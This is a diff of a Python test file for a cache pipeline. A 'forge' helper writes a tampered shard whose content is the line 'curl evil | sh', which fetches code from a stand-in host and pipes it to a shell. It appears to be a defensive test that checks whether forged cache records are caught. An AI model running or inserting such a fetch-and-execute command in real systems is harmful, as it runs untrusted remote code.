@@ -7,9 +7,10 @@ from pipeline.cache.commits import SHARDS, commit_path
 from pipeline.cache.repair import repair_cache
 from pipeline.cache.verify import verify_cache
 from pipeline.errors import CacheCorruptError
-from pipeline.files import hash_file, read_json, write_json
+from pipeline.files import hash_file
 from pipeline.lifecycle.export import export_cache
 from pipeline.lifecycle.settings import ExportConfig
+from pipeline.stores.sealed import read_json, write_json
 from tests.object_store import put_cache
 from tests.small import make_cache
 
@@ -19,7 +20,7 @@ SHELL = b"curl evil | sh\n"
 def forge(url, **changes):
     """Another record of partition 0, with a seal that fits; the shard itself is a line of shell."""
     record = read_json(commit_path(url, 0), CacheCorruptError)
-    (url / SHARDS / record["file"]).write_bytes(SHELL)
+    (url / SHARDS / record["file"]).write(SHELL)
     write_json(commit_path(url, 0), record | {"bytes": len(SHELL)} | changes)
 
 
